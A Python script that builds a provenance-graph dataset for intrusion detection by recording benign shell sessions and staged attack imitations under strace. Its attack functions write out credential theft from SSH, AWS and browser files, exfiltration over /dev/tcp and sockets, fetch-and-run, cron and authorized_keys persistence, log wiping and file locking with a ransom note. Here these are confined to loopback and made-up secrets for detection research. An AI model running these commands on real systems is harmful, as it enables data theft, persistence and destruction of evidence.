"""Record the embedded provenance graphs: scripted sessions under strace, benign ones and imitations of attacks.

Run as `python -m kdzoo.assets.build_provenance` on Debian 12 with strace, gcc, make, git, curl, zip, sqlite3 and perl.
A session is a few jobs of one shell, with files and an order of their own. In a recording of an attack, a second shell
works between two benign ones. It is harmless: it stays in a temporary folder, its secrets are made up, what it "sends"
goes to a listener of this script on the loopback, and what it "downloads" is a script that prints a line.

Kept are names and events, no content. The temporary folder is taken for the file system's root, and process numbers,
ports and random parts of names are replaced, so that nothing says where it was recorded. Nodes of the attack are the
processes of its shell, and the files of users and logs and the sockets that no benign process has touched.
"""

import argparse
import hashlib
import http.server
import random
import re
import shutil
import socketserver
import subprocess
import tempfile
import threading
from collections.abc import Callable
from functools import partial
from pathlib import Path

import numpy as np

from kdzoo.datamodules.provenance_logs import TYPES, read_strace
from kdzoo.datamodules.provenance_recordings import Recording, write_recordings
from kdzoo.files import whole

CALLS = ["strace", "-f", "-y", "-s", "4096", "-e", "trace=process,file,network", "-o"]
PYTHON = "/usr/bin/python3 -IS"
WORDS = [
    "alpha",
    "budget",
    "client",
    "draft",
    "engine",
    "forest",
    "garden",
    "harbour",
    "invoice",
    "journal",
    "kernel",
    "ledger",
    "meeting",
    "north",
    "order",
]
OWN = ("/home/", "/tmp/", "/var/log/", "/var/spool/", "/etc/cron", "/srv/", "/mnt/")  # where an attack leaves traces

Job = Callable[[random.Random], str]


# ----------------------------------------------------------------------------------------------------- benign jobs


def read_documents(pick: random.Random) -> str:
    """Look at some documents."""
    topic = pick.choice(WORDS)
    return f"""
        ls -l documents > /dev/null; wc documents/*.txt > tmp/counts
        grep -l {topic} documents/*.txt | head -n {pick.randint(1, 9)}
        sort documents/{topic}.txt | uniq -c > tmp/{topic}
        cut -d' ' -f1 documents/{pick.choice(WORDS)}.txt | tr a-z A-Z | tee tmp/first > /dev/null"""


def edit_documents(pick: random.Random) -> str:
    """Change some documents."""
    lines = [f"sed -i s/{pick.choice(WORDS)}/{pick.choice(WORDS)}/ documents/{pick.choice(WORDS)}.txt" for _ in "123"]
    return "\n".join([*lines, f"cp documents/{pick.choice(WORDS)}.txt documents/copy-{pick.randint(1, 99)}.txt"])


def back_up(pick: random.Random) -> str:
    """Pack the documents, and check the archive."""
    name = f"backups/documents-{pick.randint(1, 99)}.tar.gz"
    return f"tar czf {name} documents; tar tzf {name} > tmp/listing; sha256sum {name} > {name}.sum"


def unpack(pick: random.Random) -> str:
    """Pack and unpack, and compare."""
    return f"""
        zip -q -r tmp/{pick.choice(WORDS)}.zip documents notes; mkdir -p tmp/unpacked
        unzip -q -o tmp/*.zip -d tmp/unpacked; diff -r documents tmp/unpacked/documents; rm -r tmp/unpacked tmp/*.zip"""


def compile_program(pick: random.Random) -> str:
    """Compile a program, and run it."""
    name = pick.choice(WORDS)
    return f"gcc -O{pick.randint(0, 2)} -o bin/{name} code/main.c code/part.c -lm && $HOME/bin/{name} > tmp/{name}.out"


def make_project(pick: random.Random) -> str:
    """Let make build a program."""
    return f"make -s -C code NAME={pick.choice(WORDS)}; make -s -C code clean"


def use_git(pick: random.Random) -> str:
    """Commit a few files."""
    folder = f"projects/{pick.choice(WORDS)}"
    return f"""
        rm -rf {folder}; mkdir -p {folder}; cp code/*.c documents/{pick.choice(WORDS)}.txt {folder}
        git -C {folder} init -q; git -C {folder} add .; git -C {folder} commit -q -m "{pick.choice(WORDS)}"
        git -C {folder} log --oneline > tmp/log; git -C {folder} status --short"""


def make_report(pick: random.Random) -> str:
    """Make a report with Python."""
    return f"{PYTHON} code/report.py data/{pick.choice('abc')}.csv tmp/report-{pick.randint(1, 9)}.json"


def run_tests(pick: random.Random) -> str:
    """Run unit tests."""
    return f"{PYTHON} -m unittest discover -q -s code/tests{' -v' if pick.random() < 0.5 else ''}"


def ask_database(pick: random.Random) -> str:
    """Fill a database, and ask it."""
    table = pick.choice(WORDS)
    return f"""
        rm -f data/{table}.db
        sqlite3 data/{table}.db 'create table t (a, b); insert into t values (1, 2), ({pick.randint(1, 99)}, 4)'
        sqlite3 data/{table}.db 'select sum(a) from t' > tmp/sum"""


def browse(pick: random.Random) -> str:
    """Fetch pages of the local web server."""
    pages = " ".join(pick.sample(WORDS, 3))
    return f"for page in {pages}; do curl -q -s -o downloads/$page.html http://127.0.0.1:$WEB/$page.html; done"


def fetch_with_python(pick: random.Random) -> str:
    """Fetch a page with Python."""
    return f"{PYTHON} code/fetch.py http://127.0.0.1:$WEB/{pick.choice(WORDS)}.html downloads/{pick.choice(WORDS)}.html"


def clean_up(pick: random.Random) -> str:
    """Tidy the folders."""
    return f"""
        find . -name '*.tmp' -delete; mkdir -p archive/{pick.choice(WORDS)}; touch tmp/{pick.choice(WORDS)}.tmp
        mv downloads/*.html archive/{pick.choice(WORDS)}/ 2> /dev/null; du -s documents > tmp/size; rm -f tmp/*.out"""


def rotate_logs(pick: random.Random) -> str:
    """Rotate a log, as a system does."""
    name = pick.choice(["app", "web", "mail"])
    return f"""
        mv $ROOT/var/log/{name}.log $ROOT/var/log/{name}.log.1; touch $ROOT/var/log/{name}.log
        gzip -f $ROOT/var/log/{name}.log.1; tail -n 5 $ROOT/var/log/auth.log > tmp/tail; ls $ROOT/etc/cron.d"""


def administer(pick: random.Random) -> str:
    """Look after the account."""
    return f"""
        id > tmp/id; uname -a > tmp/uname; df . > tmp/df; date > tmp/date; cat .profile .ssh/config > /dev/null
        cat $ROOT/etc/cron.d/daily > /dev/null; stat documents/{pick.choice(WORDS)}.txt > /dev/null"""


def encode(pick: random.Random) -> str:
    """Encode a file as mail does, and check sums."""
    name = pick.choice(WORDS)
    return f"""
        base64 documents/{name}.txt > tmp/{name}.b64; base64 -d tmp/{name}.b64 | cmp - documents/{name}.txt
        sha256sum documents/*.txt > tmp/sums; sha256sum --quiet -c tmp/sums; md5sum data/*.csv > /dev/null"""


def count_with_perl(pick: random.Random) -> str:
    """Count with Perl and awk."""
    name = pick.choice(WORDS)
    return f"""
        perl -ne '$n{{length}}++ for split; END {{ print "$_ $n{{$_}}\\n" for keys %n }}' documents/{name}.txt
        awk -F, '{{ s += $2 }} END {{ print s }}' data/{pick.choice("abc")}.csv > tmp/total"""


BENIGN: list[Job] = [
    *(read_documents, edit_documents, back_up, unpack, compile_program, make_project, use_git, make_report, run_tests),
    *(ask_database, browse, fetch_with_python, clean_up, rotate_logs, administer, encode, count_with_perl),
]


# --------------------------------------------------------------------------------------------- imitations of attacks


def explore(pick: random.Random) -> str:
    """Look around."""
    return """
        id; uname -a; cat /etc/os-release /etc/passwd /proc/version; ls -la $HOME $HOME/.ssh $HOME/documents
        find $HOME -name '*.key' -o -name '*.pem' -o -name 'id_*'; cat $HOME/.bash_history"""


def read_secrets(pick: random.Random) -> str:
    """Gather made-up secrets."""
    into = f"$ROOT/tmp/.{pick.choice(['cache', 'x', 'font'])}"
    return f"""
        mkdir -p {into}; cp $HOME/.ssh/id_rsa $HOME/.aws/credentials {into}
        cat $HOME/.config/browser/logins.json $HOME/.netrc $HOME/wallet.dat > {into}/d; grep -rl password $HOME/notes"""


def send_archive(pick: random.Random) -> str:
    """Pack documents, and hand them to the listener."""
    archive = f"$ROOT/tmp/.{pick.choice(WORDS)}.tgz"
    connect = 's = socket.create_connection(("127.0.0.1", int(sys.argv[2])))'
    send = pick.choice(
        [
            "base64 %s > /dev/tcp/127.0.0.1/$SINK",
            "perl -MIO::Socket::INET -e "
            "'open F, shift; print {IO::Socket::INET->new(\"127.0.0.1:\" . shift)} <F>' %s $SINK",
            f"{PYTHON} -c 'import socket, sys; {connect}; s.sendall(open(sys.argv[1], \"rb\").read())' %s $SINK",
        ]
    )
    return f"tar czf {archive} $HOME/documents $HOME/.ssh; {send % archive}; rm -f {archive}"


def fetch_and_run(pick: random.Random) -> str:
    """Fetch a script that prints a line, and run it."""
    name = f"$ROOT/tmp/.{pick.choice(['kworker', 'update', 'dbus'])}"
    fetch = pick.choice(["curl -q -s -o %s http://127.0.0.1:$SINK_WEB/p.sh", "cp $ROOT/srv/drop/p.sh %s"])
    return f"{fetch % name}; chmod +x {name}; {name} > /dev/null; nohup {name} > /dev/null 2>&1"


def persist(pick: random.Random) -> str:
    """Write what would start again."""
    return f"""
        mkdir -p $HOME/.config/autostart; echo '[Desktop Entry]' > $HOME/.config/autostart/{pick.choice(WORDS)}.desktop
        echo '* * * * * user true' > $ROOT/etc/cron.d/{pick.choice(["update", "sync"])}; echo true >> $HOME/.bashrc
        echo 'ssh-rsa AAAA none' >> $HOME/.ssh/authorized_keys"""


def wipe_logs(pick: random.Random) -> str:
    """Empty logs and the history."""
    return """
        truncate -s 0 $ROOT/var/log/auth.log; shred -n 1 -u $ROOT/var/log/web.log; rm -f $HOME/.bash_history
        sed -i /user/d $ROOT/var/log/mail.log; touch -r $ROOT/etc/cron.d/daily $ROOT/var/log/mail.log"""


def lock_files(pick: random.Random) -> str:
    """Turn documents into others and remove them."""
    end = pick.choice(["locked", "enc"])
    return f"""
        for file in $HOME/documents/*.txt; do base64 $file > $file.{end}; rm -f $file; done
        echo pay > $HOME/README_{end.upper()}.txt"""


def knock(pick: random.Random) -> str:
    """Connect to what listens."""
    return "for port in $SINK $SINK_WEB $WEB; do (echo > /dev/tcp/127.0.0.1/$port) 2> /dev/null; done"


def copy_tools(pick: random.Random) -> str:
    """Run harmless tools under other names from a temporary folder."""
    folder = f"$ROOT/tmp/.{pick.choice(['X11', 'ICE', 'font'])}-unix"
    return f"""
        mkdir -p {folder}; cp /bin/true {folder}/sshd; cp /usr/bin/id {folder}/crond; chmod 755 {folder}/*
        {folder}/sshd; {folder}/crond; rm -r {folder}"""


ATTACKS: dict[str, list[Job]] = {
    "theft": [explore, read_secrets, send_archive],
    "dropper": [fetch_and_run, explore, persist],
    "lock": [explore, lock_files, wipe_logs],
    "spy": [read_secrets, knock, persist, send_archive],
    "stealth": [copy_tools, read_secrets, wipe_logs],
    "full": [explore, fetch_and_run, read_secrets, persist, send_archive, wipe_logs],
}


# ------------------------------------------------------------------------------------------------------- recording

MAIN = """#include <math.h>
#include <stdio.h>
int part(int);
int main(void) { printf("%d %f\\n", part(3), sqrt(2)); }
"""
PART = """#include <stdlib.h>
#include <string.h>
int part(int a) { return abs(a) + 1; }
"""
MAKEFILE = """NAME = a
$(NAME): main.o part.o
\t$(CC) -o $@ $^ -lm
clean:
\trm -f *.o $(NAME)
.PHONY: clean
"""
REPORT = """import csv, json, statistics, sys
rows = list(csv.reader(open(sys.argv[1])))
values = [float(row[1]) for row in rows]
json.dump({'mean': statistics.mean(values)}, open(sys.argv[2], 'w'))
"""
FETCH = """import sys, urllib.request
open(sys.argv[2], 'wb').write(urllib.request.urlopen(sys.argv[1]).read())
"""
TEST = """import pathlib, tempfile, unittest
class Sum(unittest.TestCase):
    def test(self):
        with tempfile.TemporaryDirectory() as f:
            pathlib.Path(f, 'a').write_text('b')
"""
FILES = {
    "home/user/code/main.c": MAIN,
    "home/user/code/part.c": PART,
    "home/user/code/Makefile": MAKEFILE,
    "home/user/code/report.py": REPORT,
    "home/user/code/fetch.py": FETCH,
    "home/user/code/tests/test_sum.py": TEST,
    "home/user/.profile": "umask 022\n",
    "home/user/.bashrc": "alias l=ls\n",
    "home/user/.bash_history": "ls\n",
    "home/user/.gitconfig": "[user]\nname = user\nemail = user@localhost\n[gc]\nauto = 0\n",
    "home/user/.ssh/config": "Host server\n",
    "home/user/.ssh/id_rsa": "made up\n",
    "home/user/.aws/credentials": "made up\n",
    "home/user/.config/browser/logins.json": "{}\n",
    "home/user/.netrc": "made up\n",
    "home/user/wallet.dat": "made up\n",
    "home/user/notes/todo.txt": "password: none\n",
    "etc/cron.d/daily": "0 0 * * * user true\n",
    "srv/drop/p.sh": "#!/bin/sh\necho harmless\n",
    **{f"var/log/{name}.log": "user login\n" * 20 for name in ("app", "web", "mail", "auth")},
    **{f"srv/web/{word}.html": f"<p>{word}</p>\n" for word in WORDS},
}
FOLDERS = "tmp home/user/tmp home/user/bin home/user/backups home/user/downloads home/user/projects home/user/archive"


class Sink(socketserver.BaseRequestHandler):
    """Takes what comes, and forgets it."""

    def handle(self) -> None:
        """Read to the end."""
        while self.request.recv(65536):
            pass


class Quiet(http.server.SimpleHTTPRequestHandler):
    """A web server that does not log."""

    def log_message(self, format: str, *args: object) -> None:
        """Say nothing."""


def listen(handler: Callable[..., socketserver.BaseRequestHandler]) -> socketserver.TCPServer:
    """Start a listener on the loopback."""
    server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


def fill(root: Path, pick: random.Random) -> None:
    """Make the files that the jobs work on."""
    for folder in FOLDERS.split():
        (root / folder).mkdir(parents=True)
    documents = {f"home/user/documents/{word}.txt": " ".join(pick.choices(WORDS, k=300)) for word in WORDS}
    tables = {f"home/user/data/{name}.csv": "".join(f"{i},{pick.random()}\n" for i in range(50)) for name in "abc"}
    for name, text in {**FILES, **documents, **tables}.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
    (root / "srv/drop/p.sh").chmod(0o755)


def trace(script: str, root: Path, ports: dict[str, int]) -> list[str]:
    """Run a script under strace, and return the log without what is this machine's own."""
    log = root / "log"
    environment = {"HOME": str(root / "home/user"), "PATH": "/usr/bin:/bin", "LC_ALL": "C", "ROOT": str(root)}
    environment |= {"TMPDIR": str(root / "tmp"), **{name: str(port) for name, port in ports.items()}}
    subprocess.run(
        [*CALLS, str(log), "/bin/bash", "-c", script],
        cwd=root / "home/user",
        env=environment,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        timeout=120,
        check=False,
    )
    text = log.read_text(errors="replace")
    log.unlink()
    return clean(text, root, ports).splitlines()


PLAIN_PORTS = {"WEB": 8080, "SINK": 4444, "SINK_WEB": 8000}
RANDOM = [
    (r"/proc/\d+", "/proc/N"),
    (r"objects/[0-9a-f]{2}/[0-9a-f]{38}", "objects/object"),
    (r"objects/[0-9a-f]{2}\b", "objects/folder"),
    (r"\.git/t\w{6}(?=[\">])", ".git/tmp"),
    (r"tmp_obj_\w{6}", "tmp_obj"),
    (r"/tmp/cc\w{6}\b", "/tmp/cc"),
    (r"/tmp/tmp\w{8}\b", "/tmp/tmp"),
    (r"(?<=[<\"])/tmp/[a-z0-9_]{8}(?=[>/\"])", "/tmp/probe"),
    (r"/sh-thd[.-]\w+", "/sh-thd"),
    (r"/sed\w{6}\b", "/sed"),
    (r"/zi\w{6}\b", "/zi"),
    (r"\.pyc\.\d+", ".pyc.N"),
]


def clean(text: str, root: Path, ports: dict[str, int]) -> str:
    """Take this machine's folder, ports and random names out of a log."""
    text = text.replace(str(root), "").replace(f"{str(root)[1:]}/", "/")  # mkdir -p goes to / and on from there
    for name, port in ports.items():
        text = text.replace(f"htons({port})", f"htons({PLAIN_PORTS[name]})")
    for pattern, plain in RANDOM:
        text = re.sub(pattern, plain, text)
    return text


def record(title: str, pick: random.Random) -> Recording:
    """Record a session: a benign one, or one with the attack that the title names."""
    kind = title.split("-")[0]
    with tempfile.TemporaryDirectory() as folder:
        root = Path(folder).resolve()
        fill(root, pick)
        servers = {
            "WEB": listen(partial(Quiet, directory=str(root / "srv/web"))),
            "SINK": listen(Sink),
            "SINK_WEB": listen(partial(Quiet, directory=str(root / "srv/drop"))),
        }
        ports = {name: server.server_address[1] for name, server in servers.items()}
        jobs = [job(pick) for job in pick.sample(BENIGN, pick.randint(4, 7))]
        if kind == "benign":
            logs = [trace("\n".join(jobs), root, ports)]
        else:
            own = "\n".join(job(pick) for job in ATTACKS[kind])
            logs = [trace(script, root, ports) for script in ("\n".join(jobs[:2]), own, "\n".join(jobs[2:]))]
        for server in servers.values():
            server.shutdown()
            server.server_close()
    pids = [{line.split()[0] for line in log if line} for log in logs]
    if sum(map(len, pids)) != len(set.union(*pids)):
        return record(title, pick)  # the system has used a process number twice
    graph = read_strace(line for log in logs for line in log)
    if graph.bad:
        print(f"{title}: {graph.bad} lines did not parse, the first is: {graph.first_bad}")
    attack = np.zeros(len(graph.types), dtype=np.int8)
    if kind != "benign":
        attack[graph.called(pids[1], "process")] = 1
        touched = {side: set[int]() for side in (0, 1)}
        for source, target, _ in graph.events:
            for process, thing in ((source, target), (target, source)):
                if TYPES[graph.types[process]] == "process":
                    touched[int(attack[process])].add(thing)
        for node in touched[1] - touched[0]:
            if TYPES[graph.types[node]] == "socket" or graph.names[node].startswith(OWN):
                attack[node] = 1
    return Recording.of(title, graph, attack)


def main() -> None:
    """Record, and print the file's size and SHA-256."""
    parser = argparse.ArgumentParser(description="Record the embedded provenance graphs.")
    parser.add_argument("--benign", type=int, default=72)
    parser.add_argument("--attacks", type=int, default=3, help="recordings of each attack")
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument("--to", type=Path, default=Path(__file__).parent / "provenance.npz")
    options = parser.parse_args()
    missing = [
        tool for tool in ("strace", "gcc", "make", "git", "curl", "zip", "sqlite3", "perl") if not shutil.which(tool)
    ]
    if missing:
        parser.error(f"these programs are missing: {', '.join(missing)}")
    titles = [f"benign-{number:02}" for number in range(options.benign)]
    titles += [f"{name}-{number}" for name in ATTACKS for number in range(options.attacks)]
    recordings = [record(title, random.Random(f"{options.seed} {title}")) for title in titles]
    with whole(options.to) as scratch:
        write_recordings(scratch, recordings)
    sizes = [len(each.types) for each in recordings]
    print(f"{len(recordings)} graphs of {min(sizes)} to {max(sizes)} nodes, {sum(sizes)} in all")
    print(options.to.name, options.to.stat().st_size, hashlib.sha256(options.to.read_bytes()).hexdigest())


if __name__ == "__main__":
    main()
